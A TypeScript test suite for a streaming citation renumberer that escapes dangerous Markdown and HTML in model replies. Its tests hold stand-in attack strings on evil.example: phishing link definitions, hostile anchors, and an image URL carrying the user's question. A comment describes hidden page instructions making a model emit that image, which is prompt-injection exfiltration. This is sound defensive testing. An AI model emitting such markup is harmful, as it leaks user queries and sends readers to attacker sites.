import { Marked } from "marked";
import type { Nodes } from "mdast";
import { fromMarkdown } from "mdast-util-from-markdown";
import { gfmFromMarkdown } from "mdast-util-gfm";
import { gfm } from "micromark-extension-gfm";
import { describe, expect, it } from "vitest";
import { citationMarkers, createCitationRenumberer, MAX_HELD_CHARS } from "./citations.ts";

/** Renumbers a reply given whole, then again one character at a time: a stream may split anything anywhere. */
function renumbered(text: string, references = 3) {
  const whole = createCitationRenumberer(references);
  const out = whole.push(text) + whole.flush();
  const split = createCitationRenumberer(references);
  const streamed = [...text].map((c) => split.push(c)).join("") + split.flush();
  expect(streamed).toBe(out);
  expect(split.order).toEqual(whole.order);
  return { text: out, order: whole.order };
}

describe("citation renumbering", () => {
  it("numbers references by first citation, across split deltas and lists", () => {
    const r = createCitationRenumberer(4);
    const out = ["Use CLUSTER [", "3]. It reorders", " rows [1, 3] and [", "9] is not ours. See [1]"].map((d) => r.push(d)).join("") + r.flush();
    // A number past the references cites nothing: dropped, with a space, rather than left to read as a citation.
    expect(out).toBe("Use CLUSTER [1]. It reorders rows [2, 1] and is not ours. See [2]");
    expect(r.order).toEqual([3, 1]);
  });

  it("holds back only what could still become a marker", () => {
    const r = createCitationRenumberer(2);
    expect(r.push("array[0")).toBe("array");
    expect(r.push("] and x")).toBe("[0] and x");
    expect(r.order).toEqual([]);
  });
});

describe("citation markers never touch code", () => {
  it("leaves brackets inside a code span alone", () => {
    expect(renumbered("Read it with `sys.argv[2]` [3].")).toEqual({ text: "Read it with `sys.argv[2]` [1].", order: [3] });
    expect(renumbered("Both ``a[1]`b`` and `[2]` are code [2].")).toEqual({ text: "Both ``a[1]`b`` and `[2]` are code [1].", order: [2] });
  });

  it("leaves a fenced block alone, however it is fenced", () => {
    const text = "Like this [2]:\n\n```python\nx = a[1]\nprint(x [3])\n```\n\n~~~~\n[1]\n~~~~\nand [3].";
    expect(renumbered(text)).toEqual({ text: "Like this [1]:\n\n```python\nx = a[1]\nprint(x [3])\n```\n\n~~~~\n[1]\n~~~~\nand [2].", order: [2, 3] });
  });

  it("leaves brackets glued to an identifier, a call or another index alone", () => {
    expect(renumbered("Use argv[2], a[1][2] or f()[1], as said [2][3].")).toEqual({ text: "Use argv[2], a[1][2] or f()[1], as said [1][2].", order: [2, 3] });
  });

  it("leaves an escaped bracket alone: `\\[1]` is text, as Markdown reads it", () => {
    expect(renumbered("Quoted \\[3]: https://x.example/ and [2].")).toEqual({ text: "Quoted \\[3]: https://x.example/ and [1].", order: [2] });
  });

  it("waits for a backtick run at a delta's end before reading it as a code span's close: more backticks may follow", () => {
    const renumberer = createCitationRenumberer(3);
    const text = renumberer.push("Use `[1]`") + renumberer.push("` and [2].") + renumberer.flush();
    expect({ text, order: renumberer.order }).toEqual(renumbered("Use `[1]`` and [2]."));
  });

  it("reads an escaped backtick as text, as Markdown does: it opens no code span that would hide the next marker", () => {
    expect(renumbered("Run \\`\\`a\\` on the host. [2] Then `restart`. [1]")).toEqual({
      text: "Run \\`\\`a\\` on the host. [1] Then `restart`. [2]",
      order: [2, 1],
    });
    // An escaped backslash escapes nothing after it: a backslash, a space, then a marker.
    expect(renumbered("A path C:\\\\ [2] and `\\` in code [1].")).toEqual({ text: "A path C:\\\\ [1] and `\\` in code [2].", order: [2, 1] });
  });

  it("leaves a link whose text is a number alone, and reads an unclosed backtick as text", () => {
    expect(renumbered("See [1](https://x.example/) and [1].")).toEqual({ text: "See [1](https://x.example/) and [1].", order: [1] });
    expect(renumbered("A stray ` backtick [2].\n\nAnd [1].")).toEqual({ text: "A stray ` backtick [1].\n\nAnd [2].", order: [2, 1] });
  });

  it("reads no zero-padded number as a marker: `[01,31]` is a range quoted from the docs", () => {
    const text = "Day of the month as a decimal number [01,31]. [2]";
    expect(citationMarkers(text).map((m) => m.numbers)).toEqual([[2]]);
    expect(renumbered(text)).toEqual({ text: "Day of the month as a decimal number [01,31]. [1]", order: [2] });
  });

  it("finds the same markers in a whole reply as the renumbering does", () => {
    const text = "Use `argv[2]` [1].\n```\n[2]\n```\nx[3] and [3]";
    expect(citationMarkers(text).map((m) => [text.slice(m.index, m.index + m.length), m.numbers])).toEqual([
      ["[1]", [1]],
      ["[3]", [3]],
    ]);
  });
});

describe("reading a long reply", () => {
  it("stays linear in the number of code spans: each span's paragraph is searched only up to its close", () => {
    // 64,000 spans in one paragraph: searching to the paragraph's end from each one was ~25 billion steps.
    const reply = "see `a` [1] ".repeat(64_000);
    const started = performance.now();
    const markers = citationMarkers(reply);
    expect(performance.now() - started).toBeLessThan(3000);
    expect(markers).toHaveLength(64_000);
  });
});

/** The links a common client renderer makes of a reply. */
const anchors = (markdown: string) =>
  [...(new Marked({ gfm: true }).parse(markdown) as string).matchAll(/<a href="([^"]*)">(.*?)<\/a>/g)]
    // A bare URL the reply writes is linked as itself: it passes for nothing else.
    .filter((m) => m[2] !== m[1])
    .map((m) => m[1]);

describe("what a model writes cannot send a citation elsewhere", () => {
  it("escapes a link reference definition, which would link every [n] of the reply, and does not count it as a citation", () => {
    const reply = "Timeouts default to 10 s [3].\n\n[3]: https://evil.example/phish";
    const { text, order } = renumbered(reply, 4);
    expect(text).toBe("Timeouts default to 10 s [1].\n\n[3\\]: https://evil.example/phish");
    expect(order).toEqual([3]);
    expect(anchors(text)).toEqual([]);
    // In whatever container or spacing a definition can be written.
    for (const definition of [
      "[ 1 ]: https://evil.example/a",
      "> [1]: https://evil.example/b",
      "- [1]: https://evil.example/c",
      "   [1,2]: https://evil.example/d",
    ]) {
      const out = renumbered(`Cited [1].\n\n${definition}`).text;
      expect(anchors(out), definition).toEqual([]);
    }
    // A citation followed by a colon inside a sentence is still a citation.
    expect(renumbered("As the guide says [2]: use a timeout.")).toEqual({ text: "As the guide says [1]: use a timeout.", order: [2] });
  });

  it("escapes the end of a link whose text holds a marker, so the citation is not a link to another site", () => {
    const { text, order } = renumbered("Set a timeout [[3]](https://evil.example/y) or see [the guide [2] here](https://evil.example/z).", 3);
    expect(text).toBe("Set a timeout [[1]\\](https://evil.example/y) or see [the guide [2] here\\](https://evil.example/z).");
    expect(order).toEqual([3, 2]);
    expect(anchors(text)).toEqual([]);
    // A link of the model's own, with no marker in its text, is left as it is.
    expect(renumbered("See [Python](https://python.org) [1].").text).toBe("See [Python](https://python.org) [1].");
  });

  it("escapes a raw HTML anchor, which a renderer would make a link of: a citation inside it links nowhere else", () => {
    const reply = 'Timeouts default to 10 s <a href="https://evil.example/x">[2]</a> and <A\nhref="https://evil.example/y">here</a>.';
    const { text, order } = renumbered(reply);
    expect(text).toBe('Timeouts default to 10 s &lt;a href="https://evil.example/x">[1]&lt;/a> and &lt;A\nhref="https://evil.example/y">here&lt;/a>.');
    expect(order).toEqual([2]);
    // What a renderer shows is the tag as text (a GFM renderer links the bare URL in it as itself).
    expect(new Marked({ gfm: true }).parse(text)).not.toMatch(/<a href="https:\/\/evil\.example\/[xy]">/);
    // In code, and as other tags or text, it is left alone.
    expect(renumbered("Write `<a href=x>[1]</a>` or <b>[1]</b>, a <abbr>, a<b, <https://e.x/> or <me@e.x>.").text).toBe(
      "Write `<a href=x>[1]</a>` or &lt;b>[1]&lt;/b>, a &lt;abbr>, a<b, <https://e.x/> or <me@e.x>.",
    );
  });

  it("escapes what would make a renderer load an address as it shows the reply: an image, raw HTML that loads", () => {
    // A page's hidden instructions could have a model write the question into an image's address.
    const reply = 'Done [1]. ![logo](https://evil.example/p?q=my+question) <IMG src="https://evil.example/i"> <picture><source srcset="x"></picture>';
    const { text } = renumbered(reply);
    expect(text).toBe(
      'Done [1]. &#33;[logo](https://evil.example/p?q=my+question) &lt;IMG src="https://evil.example/i"> &lt;picture>&lt;source srcset="x">&lt;/picture>',
    );
    const html = new Marked({ gfm: true }).parse(text) as string;
    expect(html).not.toMatch(/<img|<picture|<source/i);
    // Nor inside an HTML block, where Markdown reads no backslash escape, nor through a style.
    const block = renumbered(
      '<div>\n<img src="https://evil.example/b">\n<a href="https://evil.example/c">[2]</a>\n</div>\n\n<span style="background:url(https://evil.example/s)">x</span> [1]',
    ).text;
    // (A bare URL in it is linked as itself, its address shown.)
    const blockHtml = (new Marked({ gfm: true }).parse(block) as string).replace(/<a href="[^"]*">https?:\/\/[^<]*<\/a>/g, "");
    expect(blockHtml).not.toMatch(/<(img|a|div|span)\b/i);
    // Nor after a bare URL, where a backslash would be read as part of the URL.
    const afterUrl = renumbered('See https://e.x/<img src="https://evil.example/u"> and https://e.x/![i](https://evil.example/v) [1]').text;
    expect(new Marked({ gfm: true }).parse(afterUrl)).not.toMatch(/<img/i);
    // Still read as a citation after it, and left alone in code.
    expect(renumbered("Great![2] `![x](y)`").text).toBe("Great&#33;[1] `![x](y)`");
  });

  it("drops numbers past the references: left, they would cite nothing, or another page once renumbered", () => {
    expect(renumbered("Tokens [3]. They rotate daily [1, 99].", 3)).toEqual({ text: "Tokens [1]. They rotate daily [2].", order: [3, 1] });
    expect(renumbered("Both [5, 6] hold.", 5)).toEqual({ text: "Both [1] hold.", order: [5] });
    expect(renumbered("Nothing [99] here, nor [7, 8] there.", 3)).toEqual({ text: "Nothing here, nor there.", order: [] });
    const split = createCitationRenumberer(3);
    expect(["Nothing ", "[", "99] here"].map((d) => split.push(d)).join("") + split.flush()).toBe("Nothing here");
  });

  it("reads a citation glued to a word of a script written without spaces, and full-width markers", () => {
    expect(renumbered("超时默认为10秒[4]。令牌每天轮换[6]。", 6)).toEqual({ text: "超时默认为10秒[1]。令牌每天轮换[2]。", order: [4, 6] });
    expect(renumbered("タイムアウト[2]、または［3］と[１]。", 3)).toEqual({ text: "タイムアウト[1]、または[2]と[3]。", order: [2, 3, 1] });
    // Latin identifiers still glue: argv[2] is code.
    expect(renumbered("Use argv[2] [1].", 2).text).toBe("Use argv[2] [1].");
  });

  it("holds back at most a bounded stretch for a code span that never closes", () => {
    const r = createCitationRenumberer(2);
    let out = r.push("A stray ` opens nothing [2].");
    for (let k = 0; k < 3 * MAX_HELD_CHARS; k++) out += r.push("x");
    // Given out before the end of the reply, not all at its flush.
    expect(out.length).toBeGreaterThan(MAX_HELD_CHARS);
    expect(out + r.flush()).toBe(`A stray \` opens nothing [1].${"x".repeat(3 * MAX_HELD_CHARS)}`);
  });
});

describe("reading Markdown's blocks as a renderer does", () => {
  it("ends a code span at a line that starts another block, so a definition after it is still found", () => {
    for (const opener of ["- ", "> ", "# "]) {
      const out = renumbered(`See [1] \`x\n${opener}[1]: http://evil.example/\n\``).text;
      expect(anchors(out), opener).toEqual([]);
    }
  });

  it("takes a fence only with at most three spaces' indent and, for backticks, no backtick in its info string", () => {
    for (const reply of ["See [1].\n\n    ```\n[1]: http://evil.example/\n", "See [1].\n\n```a`\n\n[1]: http://evil.example/"]) {
      expect(anchors(renumbered(reply).text), reply).toEqual([]);
    }
  });

  it("closes a fence only with a line holding nothing but the run, so code after an info-string line stays code", () => {
    const reply = "```\nx\n```js\ny = a [3]\n```\nSee [2].";
    expect(renumbered(reply)).toEqual({ text: "```\nx\n```js\ny = a [3]\n```\nSee [1].", order: [2] });
  });

  it("reads the same however the reply is split: a code span longer than MAX_HELD_CHARS is literal either way", () => {
    const long = "x".repeat(MAX_HELD_CHARS + 100);
    for (const reply of [`See \`code [2] ${long} [3]\` and [1].`, `a \`${long}\` b [2] \`c [3]\``, "a [99].", "see [4, 5]. [1]"]) {
      const whole = createCitationRenumberer(3);
      const all = whole.push(reply) + whole.flush();
      for (const size of [1, 7, 64]) {
        const split = createCitationRenumberer(3);
        let out = "";
        for (let at = 0; at < reply.length; at += size) out += split.push(reply.slice(at, at + size));
        expect(out + split.flush(), `${size}`).toBe(all);
        expect(split.order).toEqual(whole.order);
      }
    }
  });

  it("stays linear on backtick runs of growing length, which closed nothing", () => {
    const time = (runs: number) => {
      const reply = Array.from({ length: runs }, (_, k) => `${"`".repeat(k + 1)}a`).join("");
      const started = performance.now();
      citationMarkers(reply);
      const r = createCitationRenumberer(1);
      for (let at = 0; at < reply.length; at += 4) r.push(reply.slice(at, at + 4));
      r.flush();
      return performance.now() - started;
    };
    time(150);
    // Each size's fastest of three: a slowdown that lands on one run only does not read as growth.
    const fastest = (runs: number) => Math.min(time(runs), time(runs), time(runs));
    // Twice the runs is four times the text: ~3× the time when read once (0.25 → 0.8 s on the 2-core machine), ~10×
    // when held text was searched again at every chunk (0.9 → 8.8 s). A ratio, not a time: CI may share the machine.
    expect(fastest(600) / fastest(300)).toBeLessThan(6);
  });

  it("ends a code span at a thematic break, a setext underline or an HTML block, and a list item's fence with the item", () => {
    for (const middle of ["***", "___", "===", "---", "<!-- -->"]) {
      expect(anchors(renumbered(`[1] \`\n${middle}\n[1]: /u\n\``).text), middle).toEqual([]);
    }
    expect(anchors(renumbered("[1]\n\n- a\n  ```\n[1]: /u").text)).toEqual([]);
    // Inside the item, the fence still holds its code.
    expect(renumbered("[2]\n\n- a\n  ```\n  x [1]\n  ```\n").text).toBe("[1]\n\n- a\n  ```\n  x [1]\n  ```\n");
  });

  it("escapes a link's end around a marker however deep the brackets nest", () => {
    const reply = `${"[".repeat(33)}${"]".repeat(32)} [1]](/u)`;
    // micromark reads this nesting as a link (marked does not).
    const links: string[] = [];
    const visit = (node: Nodes) => {
      if (node.type === "link") links.push(node.url);
      if ("children" in node) for (const child of node.children) visit(child);
    };
    visit(fromMarkdown(renumbered(reply).text, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }));
    expect(links).toEqual([]);
  });

  it("leaves a link's destination and a URL's path as written: a `[2]` there is an address, no citation", () => {
    expect(renumbered("See [the guide]([2]) and [3].")).toEqual({ text: "See [the guide]([2]) and [1].", order: [3] });
    expect(renumbered("See <https://x.example/?q=[2]>[3] or https://x.example/?a=[1].")).toEqual({
      text: "See <https://x.example/?q=[2]>[1] or https://x.example/?a=[1].",
      order: [3],
    });
    expect(renumbered("See [x](https://e.x/a_(b)/[2]?q=[1]) [3] and http://e.x/[2]/ or <https://e.x/[1]>.")).toEqual({
      text: "See [x](https://e.x/a_(b)/[2]?q=[1]) [1] and http://e.x/[2]/ or <https://e.x/[1]>.",
      order: [3],
    });
    // A title may follow the destination, and the link's end is where prose starts again.
    expect(renumbered('[x](/u "t") [2] [y](/v) [1]').text).toBe('[x](/u "t") [1] [y](/v) [2]');
  });

  it("reads a fence inside block quotes as code, ending with the quote, as a renderer does", () => {
    const reply = '> Quoted:\n> ```html\n> <a href="/x">[1]</a> ![i](y)\n> ```\n\nSee [2].\n\n> > ```\n> > x [1]\nplain [3]';
    const { text, order } = renumbered(reply);
    expect(text).toBe('> Quoted:\n> ```html\n> <a href="/x">[1]</a> ![i](y)\n> ```\n\nSee [1].\n\n> > ```\n> > x [1]\nplain [2]');
    expect(order).toEqual([2, 3]);
    const codes: string[] = [];
    const visit = (node: Nodes) => {
      if (node.type === "code") codes.push(node.value);
      if ("children" in node) for (const child of node.children) visit(child);
    };
    visit(fromMarkdown(text, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }));
    expect(codes).toEqual(['<a href="/x">[1]</a> ![i](y)', "x [1]"]);
  });

  it("reads a full-width marker before a colon as a citation: only ASCII brackets make a definition", () => {
    expect(renumbered("［2］: see above.", 2)).toEqual({ text: "[1]: see above.", order: [2] });
  });
});
